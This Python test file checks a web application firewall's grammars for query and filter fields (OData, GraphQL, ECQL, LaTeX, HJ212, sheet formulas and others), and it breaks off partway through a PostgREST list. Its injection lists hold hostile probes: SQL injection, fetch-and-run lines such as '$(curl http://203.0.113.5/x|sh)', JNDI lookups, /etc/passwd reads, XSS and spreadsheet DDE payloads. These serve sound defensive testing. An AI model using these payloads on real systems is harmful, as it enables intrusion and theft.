"""Filter fields (sitegroup/waf/filter_fields.py): what each grammar lets past CRS's SQL rules, in seconds.

The table runs the rendered pattern with Python on the value's UTF-8 bytes (as PCRE2 reads it without UTF
mode); test_pcre2_compiles.py shows PCRE2 compiles the same pattern, and the packages' must-pass and
must-block requests (test_cms.py) run it in the real tier at every profile. A grammar edit that lets an
injection through, or stops reading an ordinary filter, fails here first.
"""

from __future__ import annotations

import ctypes
from pathlib import Path

import pytest

from sitegroup.waf import cms, filter_fields
from sitegroup.waf.errors import WafRenderError
from sitegroup.waf.filter_fields import FilterField, matches
from tests.waf.test_pcre2_compiles import PCRE2_DOTALL, PCRE2_MULTILINE, _pcre2, compile_error

FILTERS = [  # ECQL (GeoServer CQL_FILTER) and ArcGIS REST where clauses, as the clients send them
    "1=1",
    "NAME LIKE '%停车场%' OR TYPE = '公共'",
    "area BETWEEN 480 AND 7233",
    "name ILIKE '%充电站%' AND xzqdm = '520402'",
    "\"name\" IS NOT NULL AND xzqdm IN ('520102','520103','520111')",
    "NOT (status = 9)",
    "(a=1 OR b=2) AND NOT (c IN (1,2))",
    "INTERSECTS(geom, POLYGON((106.6 26.5, 106.7 26.5, 106.7 26.6, 106.6 26.5)))",
    "DWITHIN(geom, POINT(106.7 26.5), 500, meters)",
    "BBOX(geom, 106.6, 26.5, 106.8, 26.7) AND type = 'school'",
    "updated > 2025-01-01T00:00:00Z",
    "DLMC = '茶园' AND TBMJ >= 1.5e3",
    "name = 'O''Brien'",
]
INJECTIONS = [  # each must fall back to every rule
    "1=1 union select username,password from sde.users--",
    "1=1;drop table sde.gdb_items--",
    "1=1 and sleep(5)",
    "strStartsWith(name,'x'') = true and 1=(SELECT CAST ((SELECT version()) AS integer)) -- ') = true",
    "strStartsWith(name,'x') = true",
    "1=1\nunion select password from users",  # a second line: \z, not $ (multi-line @rx)
    "name = 'a\\' or 1=1",  # MySQL's backslash escape
    "name = '%27 or 1=1",  # an escape left after decoding
    "1=1 /* x */",
    "1=1 # x",
    "1=(select 1)",
    "a=1 and extractvalue(1,concat(0x7e,version()))",
    "name = 'abc",  # an open string
    "1=1 or benchmark(1000000,md5(1))",
    "id in (select id from t)",
    "1=1 waitfor delay '0:0:5'",
    "name = 'x' into outfile '/tmp/x'",
    "name = `x`",
    "@@version = 1",
]
CQL = [
    'dc.title="中华人民共和国民法典 释义" and dc.date>1998',
    'cql.anywhere all "水利 黔东南"',
    "bath.isbn=9787040396638",
    'dc.creator any "王 李" sortBy dc.date/sort.descending',
    'dc.title=数据* or (dc.subject="营商环境" not dc.type=期刊)',
    'dc.title =/relevant "乡村振兴"',
]
CQL_INJECTIONS = [
    'dc.title="x" union select 1',
    'dc.title="a\\" or 1=1',
    "dc.title='x' or '1'='1'",
    'dc.title="x"; drop table t',
    'dc.title="x" and sleep(5)',
    'dc.title="x"\nunion select password from reader',
    'dc.title="x" -- comment',
]

GRAPHQL = [  # documents a headless CMS's own front end sends (POST {query: ...}, GET ?query=)
    # Strapi v4 (corpus F tuning part, graphql-cms/strapi-filters): "source" on its own line is a shell builtin
    # to 932105/932150
    "query Articles(\n  $filters: ArticleFiltersInput\n  $pagination: PaginationArg\n  $sort: [String]\n) {\n"
    "  articles(filters: $filters, pagination: $pagination, sort: $sort, publicationState: LIVE) {\n"
    "    data {\n      id\n      attributes {\n        title\n        slug\n        source\n        publishedAt\n"
    "        cover { data { attributes { url formats } } }\n      }\n    }\n"
    "    meta { pagination { page pageSize total pageCount } }\n  }\n}",
    "query SiteSearch($search: String!, $first: Int = 10) { posts(first: $first, where: {search: $search, "
    "dateQuery: {after: {year: 2023}}}) { nodes { id title uri date excerpt } } }",
    "fragment PolicyFields on Policy {\n  id\n  title\n  docNo\n}\n\nquery PolicyDetail($id: ID!) {\n"
    "  policy(id: $id) {\n    ...PolicyFields\n    interpretations { ...PolicyFields }\n  }\n}",
    'query PageByUri($uri: ID!) { page(id: $uri, idType: URI) { title ancestors { nodes { ... on Page { uri } } } } }',
    "{ __typename }",
    'query Post($withBody: Boolean! = false) { post(id: "1093") { title body @include(if: $withBody) } }',
    'mutation { createLetter(input: {title: "营商环境", tags: ["政策", "解读"], score: -1.5e2, anonymous: false, '
    "replyTo: null}) { id } }",
    '{ zcjd: articles(channel: "zcjd", first: 5) { id } tzgg: articles(channel: "tzgg") { id } }',
    '{ page(uri: "/bsfw/youhua-yingshang-huanjing-tiaoli/") { id } menu(id: "main") { items { title url } } }',
    'query { posts(where: {orderby: {field: DATE, order: DESC}, before: "2026-01-01T00:00:00Z"}) { nodes { id } } }',
]
GRAPHQL_INJECTIONS = [  # each must fall back to every rule
    '{ articles(where: "1\' union select password from users--") { id } }',
    '{ articles(where: "1 union select password from users") { id } }',
    '{ articles(where: "1union select password from users") { id } }',  # MySQL reads 1union as 1 union
    "{ union select password from users }",  # names too
    '{ a(id: "1 and sleep(5)") { id } }',
    '{ a(id: "1 or 1=1") { id } }',
    '{ a(id: "1 or 1") { id } }',
    '{ a(x: "`id`") }',
    '{ a(x: "$(id)") }',
    '{ a(x: "${jndi:ldap://x.example/a}") }',
    "{ a }\n; cat /etc/passwd",
    "{ a }\n| id",
    '{ a(x: "x && id") }',
    '{ a(x: "<script>alert(1)</script>") }',
    '{ a(x: "a\\" or 1=1") }',  # an escape
    '{ a(x: """1" or "1""") }',  # a block string: three strings to a lexer that does not know it
    "{ a } # comment",
    '{ a(x: "%27 or 1") }',
    '{ a(x: "x--") }',
    '{ a(x: "/*") }',
    '{ a(x: "line\nbreak") }',  # a GraphQL string holds no line break
    "{ a }\nsource /tmp/x.sh",  # "/" is no GraphQL token outside a string
    "source x",  # not a document: it neither opens nor closes a selection set
    "{ a }\nid",
]


CHROME_OFFER = ("v=0\r\no=- 7683257626673602748 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n"
                "a=group:BUNDLE 0 1\r\na=extmap-allow-mixed\r\na=msid-semantic: WMS\r\n"
                "m=audio 9 UDP/TLS/RTP/SAVPF 111 63 9 0 8 13 110 126\r\nc=IN IP4 0.0.0.0\r\n"
                "a=rtcp:9 IN IP4 0.0.0.0\r\na=ice-ufrag:X2P2\r\n"
                "a=ice-pwd:SSEUYQcVYgOmrCzSADtf1CR7\r\na=ice-options:trickle\r\n"
                "a=fingerprint:sha-256 0F:C6:E9:34:68:08:D0:63:F6:85:5B:E4:F6:2B:D6:1B:35:2B:"
                "00:C0:A0:43:04:A2:26:09:FC:C4:13:30:E0:E1\r\n"
                "a=setup:actpass\r\na=mid:0\r\n"
                "a=extmap:1 urn:ietf:params:rtp-hdrext:ssrc-audio-level\r\n"
                "a=extmap:2 http://www.webrtc.org/experiments/rtp-hdrext/abs-send-time\r\n"
                "a=recvonly\r\na=rtcp-mux\r\na=rtpmap:111 opus/48000/2\r\n"
                "a=rtcp-fb:111 transport-cc\r\na=fmtp:111 minptime=10;useinbandfec=1\r\n"
                "a=rtpmap:63 red/48000/2\r\na=fmtp:63 111/111\r\n"
                "a=ssrc-group:FID 1449948140 3816519390\r\n"
                "a=ssrc:1449948140 cname:JwfHfXDrmSqSXi6m\r\n")
SDP = [  # offers as srs.sdk.js posts them in {"sdp": ...} (Chrome) and as Firefox writes them (LF, braces, WMS *)
    CHROME_OFFER,
    CHROME_OFFER.rstrip("\r\n"),
    "v=0\no=mozilla...THIS_IS_SDPARTA-99.0 5146102226460254451 0 IN IP4 0.0.0.0\ns=-\nt=0 0\n"
    "a=fingerprint:sha-256 5A:1F:0B:7C\na=group:BUNDLE 0 1\na=ice-options:trickle\na=msid-semantic:WMS *\n"
    "m=video 9 UDP/TLS/RTP/SAVPF 120 124\nc=IN IP4 0.0.0.0\na=recvonly\n"
    "a=extmap:2/recvonly urn:ietf:params:rtp-hdrext:csrc-audio-level\na=msid:{d0b1f3ec-2c8e-4a53-9f1c-1f6a} {7e2f}\n"
    "a=ssrc:3316523870 cname:{4b1c2b7e-5c2d-4b1d-a1f5-0c3e}\n",
]
SDP_INJECTIONS = [  # each must fall back to every rule
    CHROME_OFFER + "a=x:1 union select password from users\r\n",  # noqa: S608 (a probe)
    CHROME_OFFER + "a=x:1' or '1'='1\r\n",
    CHROME_OFFER + "a=x:<script>alert(1)</script>\r\n",
    CHROME_OFFER + "a=x:$(curl http://203.0.113.5/x|sh)\r\n",
    CHROME_OFFER + "a=x:${jndi:ldap://203.0.113.5/a}\r\n",
    CHROME_OFFER + "a=x:1;sleep(5)\r\n",
    CHROME_OFFER + "a=x:1 -- \r\n",
    CHROME_OFFER + "a=x:1/**/\r\n",
    CHROME_OFFER + "a=x:`id`\r\n",
    CHROME_OFFER + "a=x:1 and 1=1 #\r\n",
    CHROME_OFFER + "a=x:%27\r\n",
    CHROME_OFFER + "not an sdp line\r\n",
    "o=- 1 2 IN IP4 127.0.0.1\r\n",  # not from v=0
    "v=0\r\n\r\n",  # an empty line
    "1 union select 1\nv=0\n",
]
REPORT_FORMULAS = [  # 一套表 审核公式 as the 联网直报 form check and 审核说明 requests carry them
    # corpus J tuning part, stats-direct-report/form-check and check-explain (942100, 10120, 10431, 10460, 933161)
    "[02]<=[01]*1.2",
    "[325]<=[301]",
    "[05]>=0 and [05]<=[01]",
    "abs([301]/[301上年同期]-1)<=0.3",
    "[03]<=[02]",
    "[01]=[02]+[03]+[04]",
    "[01] >= [02] AND [01] >= [03]",
    "NOT ([06] > 0 AND [07] = 0)",
    "[02]<>0 or [01]=0",
    "[10]!=0",
    "if([01]>0,[02]/[01],0)<=1.5",
    "ROUND(SUM([11],[12],[13]),2)==[10]",
    "max([01],[02])-min([01],[02])<=.5*[01]",
    "[B204-1.01]>=[B204-1.02]",
    "[行业代码]<>\"\" and len([统一社会信用代码])=18",
    "substr([行业代码],1,2)=\"30\" or int([从业人员期末人数])>=1",
    "[01]>=0\nand [02]>=0",
]
REPORT_FORMULA_INJECTIONS = [  # each must fall back to every rule
    "[01]>=0 union select password from users",
    "[01]>=0; drop table t_report",
    "[01]>=0 -- x",
    "[01]>=0 /* x */",
    "[01]>=0 # x",
    "[01]=1 or sleep(5)",
    "[01]=1 and benchmark(1000000,md5(1))",
    "[01]=1 waitfor delay '0:0:5'",
    "[01]=(select 1)",
    "[01]='1' or '1'='1'",
    "[01]=\"1\" or \"a b\"=\"a b\"",  # a literal is a code: no space
    "[01]=\"1\\\" or 1=1",
    "[01]=1 and extractvalue(1,concat(0x7e,version()))",
    "[01]=user",  # a bare word
    "[01]>=0\nunion select password from users",
    "[01]=`id`",
    "[01]=$(id)",
    "[01]>=0 | id",
    "[01]>=0 && id",
    "[01]=1 or @@version",
    "[01]=%27",
    "[01]<script>alert(1)</script>",
    "system('id')",
    "phpinfo()",
    "[01]=1 or exec('id')",
    "[01]=1 into outfile '/tmp/x'",
]

ODATA = [  # $filter, $expand, $orderby values as OData v4 clients (SAPUI5, ASP.NET Core OData) and SharePoint send
    # corpus G held-out part, odata-api (query-filter, expand, sharepoint-items)
    "Status eq 'Published'",
    "Status ne 'Draft' and DeptName eq '市发展和改革委员会'",
    "contains(Name,'不动产') or contains(Theme,'不动产')",
    "startswith(Code,'11520000')",
    "PromiseDays le 20 and OnlineLevel ge 3",
    "year(UpdateTime) eq 2026",
    "Modified gt 2026-01-01T00:00:00Z and Modified lt 2026-12-31T23:59:59+08:00",
    "not(Status eq 'Revoked')",
    "Theme in ('医保','交通')",
    "IsTop eq true and Category eq '通知公告'",
    "PublishDate ge 2025-01-01 and (Category eq '政策解读' or Category eq '新闻发布会')",
    "ApplicantType eq Sg.Zwfw.ApplicantType'LegalPerson' and Status eq 'Accepted'",
    "Created ge datetime'2025-01-01T00:00:00Z'",
    "substringof('公积金',Title)",
    "Materials($select=Name,Required,Copies;$filter=Required eq true;$orderby=Sort)",
    "Department($select=Name,Phone),Windows($top=3)",
    "Materials($expand=Templates($select=FileName,Url)),Fees",
    "Resources($select=Format,Url,Size;$filter=Format eq 'CSV' or Format eq 'XLSX')",
    "Attachments($count=true;$top=5)",
    "Created desc",
    "Name asc,Id",
    # URL Conventions 4.01: lambdas, arithmetic, geo functions, cast, GUIDs, $it, null, '' escapes, dates, times
    "Tags/any(t:t eq '社保') and Windows/all(w:w/Open eq true)",
    "Price mul 2 add 1 gt 10 and Stock mod 2 eq 0",
    "geo.distance(Location,geography'POINT(106.71 26.58)') lt 5000",
    "cast(Rating,Edm.String) eq '5' and isof(Sg.Zwfw.Feedback)",
    "Id eq 87631313-7b6b-41e3-aceb-1e6a3652a979 and Manager ne null",
    "$it/Price gt 5 and length(Name) gt 2 and indexof(tolower(Code),'ab') ge 0",
    "Applicant eq 'O''Brien' and hour(SubmitTime) ge 9 and OpenTime lt 17:30:00",
    "round(Score) eq 4 and floor(Fee) le 100.5 and ceiling(Fee) ge -1.5e2",
    "Category/Name eq '政务公开' and Flags has Sg.Zwfw.Flags'Online'",
    # SensorThings API 1.1 (stop 36, corpus AF tuning part): nested $expand, spatial relationship functions
    "Locations,Datastreams($select=name,unitOfMeasurement;$expand=Observations($top=1;$orderby=phenomenonTime desc))",
    "phenomenonTime ge 2027-09-19T02:00:00Z and phenomenonTime lt 2027-09-19T17:00:00Z and result gt 54.9",
    "ObservedProperty/name eq '相对湿度' and Thing/properties/adcd eq '449200'",
    "st_within(location,geography'POLYGON((111.65 20.17,114.54 20.17,114.54 21.1,111.65 21.1,111.65 20.17))')",
    "st_intersects(feature,geography'POINT(113.26 23.13)') and result ge 50",
]
ODATA_INJECTIONS = [  # each must fall back to every rule
    "Name eq 'x' or 1 eq 1; drop table t--",
    "contains(Name,'a'')) union select password from users--')",
    "contains(Name,'a'')) union select password from users where ''a''=''a')",  # inside a literal, no comment
    "Name eq 'a'' or ''1''=''1'",  # a tautology a concatenating backend would read after unescaping ''
    "Name eq 'x' union select 1",
    "Name eq 'x'; waitfor delay '0:0:5'",
    "Name eq 'x' and sleep(5)",
    "Name eq 'x' and 1 eq (select 1)",
    "Name eq 'x' and extractvalue(1,concat(0x7e,version()))",
    "Name eq 'x'\nunion select password from users",
    "Name eq 'x' /* c */",
    "Name eq 'x' -- c",
    "Name eq 'x' # c",
    "Name eq 'a\\' or 1 eq 1",
    "Name eq '%27 or 1 eq 1",
    "Name eq `id`",
    "Name eq @@version",
    "Name eq 'abc",  # an open string
    "Name eq 'x' or 1=1",  # '=' outside an option name
    "Name eq 'x' || 'y'",
    "Name eq '<script>alert(1)</script>'",
    "Name eq 'x' and cast((select version()) as int) eq 1",
    "Materials($select=Name;cat /etc/passwd)",  # ';' not before an option
    "Materials($select=Name);id",
    "Materials($filter=Name eq '$(id)')",
    "Materials($select=Name)|id",
    "Materials($select=Name)&&id",
    "Materials($select=Name;$filter=x eq 1;$orderby=Sort)\n;sort /etc/passwd",
    "Materials($top=1);$(curl http://203.0.113.5/x|sh)",
    "Things($select=name);expand -t 1 /etc/passwd",  # ';' not before an option: a command word after it
    "st_within(location,geography'POLYGON((1 1))') eq true; drop table observations",
    "st_within(location,geography'POINT(1 1)'')) union select password from users--')",
    "${jndi:ldap://203.0.113.5/a}",
    "Name eq 'x' into outfile '/tmp/x'",
    "order eq 1",  # a statement word as a name falls back
]


LATEX = [  # formula editors' and formula keyboards' TeX (MathJax 3, KaTeX), and the plain math text beside it
    # corpus K tuning part, sci-project-apply/formula-save (10660, 10430, 10274/10275) and edu-homework/answer-submit
    # (10431, 10460 on latex; 933210 on text)
    "E=mc^2",
    r"\eta=\frac{P_{\text{out}}}{P_{\text{in}}}\times 100\%",
    r"\sqrt{x^2+y^2}<r",
    r"2 \le x \le 3",
    r"BC=\sqrt{4+9-2\times2\times3\times\cos 60^{\circ}}=\sqrt{7}",
    r"S=\pi r^{2}=9\pi\ \mathrm{cm}^{2}",
    r"\frac{a}{b}\ge\frac{a+1}{b+1}",
    r"\sqrt{2}\times\sqrt{8}=\sqrt{16}=4",
    r"f_{\min}=3",
    "a/b ≥ (a+1)/(b+1)", "2 ≤ x ≤ 3", "9π cm²", "√7", "3",
    # the section formulas of the same corpus (inside HTML there; as a whole value here), and MathJax's usual shapes
    r"F_s=\dfrac{\sum (c'l+(W\cos\alpha-ul)\tan\varphi')}{\sum W\sin\alpha}",
    r"L(\theta)=-\frac{1}{N}\sum_{i=1}^{N}\left[y_i\log\hat{y}_i+(1-y_i)\log(1-\hat{y}_i)\right]",
    r"\hat{y}_i=\sigma(w^{\top}x_i+b)",
    r"\alpha_{ij}=\mathrm{softmax}\left(\frac{QK^{T}}{\sqrt{d_k}}\right)_{ij}",
    r"\mathbf{x}_{k+1}=\mathbf{A}\mathbf{x}_k+\mathbf{B}\mathbf{u}_k+\mathbf{w}_k,"
    r"\quad \mathbf{w}_k\sim\mathcal{N}(0,\mathbf{Q})",
    r"f'(x)=3x^2-2", r"f''(x) \not= 0", r"(x+1)(x-2)=0", r"|x - 1| + |x + 2|", r"\{x \mid x > 0\}",
    "\\begin{aligned} a &= b + c \\\\\n d &= e \\end{aligned}",
    r"\begin{cases} x+1, & x \ge 0 \\ -x, & x<0 \end{cases}",
    r"x \in \mathbb{R},\; x \neq 0,\ \text{当 } x>0 \text{ 时}", r"p \land q \lor \neg r",
    r"\lim_{n\to\infty}\left(1+\frac{1}{n}\right)^n=e", r"\sum\limits_{k=1}^{n} k = \frac{n(n+1)}{2}",
]
LATEX_INJECTIONS = [  # each must fall back to every rule
    "x' union select password from users--", "1 union select 1", "1union select 1", r"x\\select 1",
    "1 or 1=1", "1 and sleep(5)", r"\\not 1", r"x \text{ and } y", r"\text{1 union select 1}", "1 between 1 and 2",
    "1=1 -- x", "1/* x */", "1 # x", "1; drop table t", "`id`", '"x"', "$(id)", "${jndi:ldap://x.example/a}",
    "x@@version", "1%27", r"50\%27", "1?",
    "extractvalue(1,concat(0x7e,version()))", "1|version()", "1||1", "1&&1", "x'='x", "1' or '1'='1",
    "information_schema.tables", "pg_sleep(5)", "x into outfile y", "1 waitfor delay 5", "a\x00b",
    "<script>alert(1)</script>", "</x>", "<!-- x", "<img src=x onerror=alert(1)>", "x<b>y",
    r"\write18{id}", r"\immediate\write18{curl http://203.0.113.5/x|sh}", r"\input{/etc/passwd}", r"\include{x}",
    r"\\input{x}", r"\Write18{x}", r"\def\x{1}", r"\catcode`\@=11", r"\csname x\endcsname", r"\newcommand{\x}{1}",
    r"\href{javascript:alert(1)}{x}", r"\url{http://x.example/}", r"\require{html}", r"\unicode{x}", r"\style{x}{y}",
    r"\class{x}{y}", r"\htmlClass{x}{y}", r"\openout1=x", r"\from x",
    "(system)(id)", "(sys.tem)(id)", r"(\system)(id)", "(system)[0]",
]

HJ212 = [  # HJ 212-2017 packets as 数采仪 HTTP gateways forward them (one per value), with and without CR LF
    # corpus L tuning part, eco-environment/hj212-batch (10430, 10440, 10120 on json.packets.array_N)
    "##0220QN=20270307160200411;ST=32;CN=2011;PW=123456;MN=52016609618234;Flag=5;CP=&&DataTime=20270307160200;"
    "w01018-Rtd=8.89,w01018-Flag=N;w21003-Rtd=4.06,w21003-Flag=N;w01001-Rtd=8.50,w01001-Flag=D;"
    "w21011-Rtd=0.63,w21011-Flag=N&&B381\r\n",
    "##0359QN=20270219183500941;ST=31;CN=2051;PW=123456;MN=52012639358035;Flag=5;CP=&&DataTime=20270219183500;"
    "a21026-Min=35.42,a21026-Avg=44.28,a21026-Max=53.14,a21026-Flag=N;a34013-ZsRtd=6.48,a34013-Flag=N&&0500\r\n",
    # the standard's other shapes: a response (ST=91, no CP parameters), a split packet, a negative value, no CR LF
    "##0047QN=20160801085857223;ST=91;CN=9014;PW=123456;MN=010000A8900016F000169DC0;Flag=4;CP=&&&&1C80\r\n",
    "##0101QN=20160801085857223;ST=32;CN=2011;PW=123456;MN=88888880000001;Flag=9;PNUM=2;PNO=1;CP=&&"
    "DataTime=20160801085857;PolId=w01018;BeginTime=20160801000000;EndTime=20160801235959&&4A80",
    "##0090QN=20260101000000001;ST=27;CN=2011;PW=a1b2c3;MN=ABC_01-2;Flag=5;CP=&&DataTime=20260101000000;"
    "a01001-Rtd=-12.5,a01001-Flag=N&&0A1F",
]
HJ212_INJECTIONS = [  # each must fall back to every rule
    "##0101QN=1;ST=32;CN=2011;PW=1' or '1'='1;MN=1;Flag=5;CP=&&DataTime=1&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1 union select password from users;Flag=5;CP=&&DataTime=1&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=1;drop table t&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=union&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=1--&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=sleep(5)&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=<script>alert(1)</script>&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=$(id)&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=../../etc/passwd&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1&&4A80\r\n1 union select 1",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1&&4A80;select 1",
    "##0101QN=1;ST=32;X=1 or 1=1;Flag=5;CP=&&DataTime=1&&4A80",  # a header field the standard does not have
    "QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1&&4A80",  # no frame
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1&&4A8",  # no CRC
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=0x7e%27&&4A80",
    "##0101QN=1;ST=32;CN=2011;PW=1;MN=1;Flag=5;CP=&&DataTime=1;w01018-Rtd=${jndi:ldap://x.example/a}&&4A80",
    "1 or 1=1",
]

PATENT = [  # CNIPA-style 高级检索 expressions as the search page and a saved-expression call send them
    # corpus K held-out part, opened in stop 28: ip-patent-search expert-search and save-expression (942100 at PL1)
    "((TI=(茶叶) AND IN=(田春燕)) OR PA=(贵州*)) AND LS=(有效)",
    "(TI=(白酒) OR AB=(白酒 AND 窖泥 微生物)) AND IPC=(C12G*) AND AD=[20180101 TO 20211231]",
    "TIAB=(白酒? OR 白酒*) NOT PA=(中国贵州茅台酒厂(集团)有限责任公司) AND PD>=2016-01-01",
    "IPC=(C01F11/*) AND TI=(磷石膏) AND PD=[2022-01-01 TO 2027-12-31]",
    'CLM=("数据中心 冷却") AND (IPC=(G06F16/2458) OR IPC=(H05K7/20)) AND AN=(CN*)',
    "TI=(lithium battery AND cathode) AND PA=(CATL)", "AB=(无人机)\tAND\tIPC=(B64U101/*)", "PD<2020-01-01",
]
PATENT_INJECTIONS = [  # each must fall back to every rule
    "TI=(茶叶') OR '1'='1", "TI=(茶叶) union select password from users", "TI=(x) AND 1=1; drop table t",
    "TI=(x) -- comment", "TI=(x) # c", "TI=(x) /*! union */", "IPC=(C01F11/*) */", "TI=(x)\nunion select 1",
    "TI=($(id))", "TI=(`id`)", "TI=(x) | cat /etc/passwd", "TI=(x) && curl 203.0.113.5", "TI=(x%27)",
    "TI=(x) AND sleep(5)", "TI=(x) AND benchmark(1,1)", "TI=(${jndi:ldap://x.example/a})", "TI=(x@@version)",
    "TI=(<script>alert(1)</script>)", "TI=(\\x)", "TI=(x) order by 1", "TI=(x) from dual",
]


BOOLEAN = [  # conditions over named conditions, and 舆情/subscription keyword rules, as their editors save them
    # corpus T held-out part, opened in stop 30: kb-qa-editing/scene-conditions, opinion-monitor/keyword-rule (942100)
    "A && (B || (C && !D))", "A && B && !D", "(A || C) && !D",
    "(抚州+(拆迁|征收))|((抚州|赣)+补偿款)", "(赣服通|赣政通)+(崩溃|打不开|闪退|登录不了)",
    "(鹰潭+(暴雨|内涝|积水))-(天气预报|旅游)", "(赣州|赣州市)+(停水|断水|水质)-(广告|招聘)",
    '"河长制" AND (巡河 OR 暗访) NOT 招聘', "cond_age_60 && (cond_hukou || cond_permit_6m)",
    "(12345热线 | 市长热线) + 投诉", "NOT (A OR B)", "c1 & c2 & !c3", "(GDP|CPI)+发布会-预告",
]
BOOLEAN_INJECTIONS = [  # each must fall back to every rule
    "A' OR '1'='1", "A && 1=1", "A || sleep(5)", "A union select password from users", "A; drop table t",
    "A -- x", "A /* x */", "A # x", "A\nunion select 1", "A && $(id)", "A && `id`", "A | cat /etc/passwd",
    "A && ascii(substr(user(),1,1))>64", "A && version()", "(A) order by 1", "A && x%27", "A && ${jndi:x}",
    "A && @@version", "<script>alert(1)</script>", '"A\\" or 1', "A\\x", "A && benchmark(1,1)",
]
FORMULAS = [  # policy calculators' and rules engines' formulas over named variables
    # corpus U held-out part, opened in stop 31: enterprise-policy-match/subsidy-calc (942100 at PL1)
    "min(max(研发费用本年 - 研发费用上年, 0) * 0.1, 100)", "round(基数 * 比例 / 100, 2)",
    "if(人数 >= 10, 5000, 2000)", "min(投资额 * 0.05, 200) + 人才数 * 2", "(营业收入 - 成本) / 营业收入",
    "if(年龄 >= 80 and 户籍 == 1, 300, 0)", "base_amount * rate ^ years", "floor(面积 / 50) * 1000",
    "[研发费用本年]-[研发费用上年]>=0", "sqrt(a^2 + b^2)", "if(等级 == \"A\", 1.2, 1)",
    "max(0, 应纳税所得额 * 0.25 - 速算扣除数)",
]
FORMULA_INJECTIONS = [  # each must fall back to every rule
    "1 union select password from users", "1; drop table t", "1 -- x", "1 /* x */", "1 # x", "1 and sleep(5)",
    "1 and benchmark(1000000,md5(1))", "1 waitfor delay '0:0:5'", "1=(select 1)", "a='1' or '1'='1'",
    "1 and extractvalue(1,concat(0x7e,version()))", "ascii(substr(user(),1,1))>64", "char(65)", "1 or @@version",
    "1 | id", "1 && id", "$(id)", "`id`", "a=%27", "<script>alert(1)</script>", "system('id')", "phpinfo()",
    "1 into outfile '/tmp/x'", "${jndi:ldap://x.example/a}", "a\nunion select 1", "x=0x7e",
    "if(1==1) calc", "(a)(b)", "x y", "min(a, b) id",  # an operand after an operand: no formula (cmd.exe's IF)
]
SHEET_FORMULAS = [  # an online sheet's cell edits, batch operations and array formulas, as its web client posts them
    # corpus AE held-out part, opened in stop 35: online-sheet-formula (cell-formula-edit, batch-ops, array-formula)
    "=SUM(B2:B31)", "=IF(C2>=0.95,\"达标\",\"未达标\")", "=VLOOKUP($A2,'汇总表'!$A:$F,3,FALSE)",
    '=COUNTIFS(D:D,"已办结",E:E,">="&DATE(2027,3,1))', '=SUMIFS(F:F,B:B,"杭州市",C:C,"<>")', '=TEXT(D2,"yyyy-mm-dd")',
    "=IFERROR(VLOOKUP(A2,'1月'!A:B,2,0),\"\")", "=ROUND(E2/F2*100,2)", '=B2&"（"&C2&"）"', "=AVERAGE($C$2:$C$12)",
    '=SUMPRODUCT((B2:B31="是")*(C2:C31))', '=MAX(IF(B2:B40="督查室",D2:D40))', "='汇总表'!C5/'汇总表'!B5",
    "=Sheet1!A1*10%", "=RANK.EQ(B2,$B$2:$B$31)", "=SUM(2:2)", '=IF(A2="","",TODAY()-A2)', '="他说""好"""',
]
SHEET_FORMULA_INJECTIONS = [  # each must fall back to every rule
    "=1 union select password from users", "=1;drop table t", "=A1 -- x", "=A1 /* x */", "=SLEEP(5)", "=CHAR(65)",
    '=WEBSERVICE("http://203.0.113.5/x")', '=HYPERLINK("javascript:alert(1)")', "=A1' or '1'='1",
    "=\"a' or '1'='1\"", "=cmd|' /C calc'!A0", "=A1|id", "=$(id)", "=`id`", "=A1\nunion select 1", "=x%27",
    "=<script>alert(1)</script>", "=version()", "=@@version", "=user()", "=A1 or 1=1", "=benchmark(1,1)",
    '=DDE("cmd")', "={1,2}", "=A1#", "=${jndi:ldap://203.0.113.5/a}", "=A1 and sleep(5)", "='a;b'!A1",
    "=ascii(substr(user(),1,1))>64", "=SUM(A1) id", "=A1\\x",
]
CONDITIONS = [  # a survey builder's skip logic and a rules engine's guards, as their editors save them
    # corpus AE held-out part, opened in stop 35: survey-vote-builder logic-validate and survey-create (942100)
    '!(Q3 == "否")', 'Q1 != "县级" || Q5 >= 4', 'Q2 == "否"', 'Q3 == "是" && Q5 > 2', "年龄 >= 80",
    'age >= 60 && (hukou == "本市" || permitMonths >= 6)', "!receivingPension", "Q4.score < 3.5",
    '(Q1 == "A") && !(Q2 == "B")',
]
CONDITION_INJECTIONS = [  # each must fall back to every rule
    "Q1 == 'A'", "Q1 = 1", "Q1 == 1 or 1 == 1", "Q1 == 1; drop table t", "Q1 == 1 -- x", "Q1 == 1 /* x */",
    "Q1 == sleep(5)", "Q1 == 1 union select 1", "Q1 && $(id)", "Q1 && `id`", "Q1 | id", "Q1 & id",
    'Q1 == "a\\" or 1"', "<script>alert(1)</script>", "Q1 == 1\nunion select 1", "Q1 == %27", "Q1 == ${jndi:x}",
    "Q1 == @@version", "Q1 Q2", "Q1 == 1 1", "version()", "x == user()", 'Q1 == "a" "b"', "1 == 1 order by 1",
    "Q1 == 1 and sleep(5)", "Q1 == 1 union all select password from users", "Q1 == 1' or '1'='1",
    "<img src=x onerror=alert(1)>", "Q1 == 1; exec xp_cmdshell('dir')", "Q1 && cat /etc/passwd",
]

POSTGREST = [  # PostgREST's select, columns, order and logic trees as supabase-js and postgrest-js send them
    # corpus AH tuning part, stop 37: postgrest-supabase-hasura postgrest-select, postgrest-insert (942100, 10110)
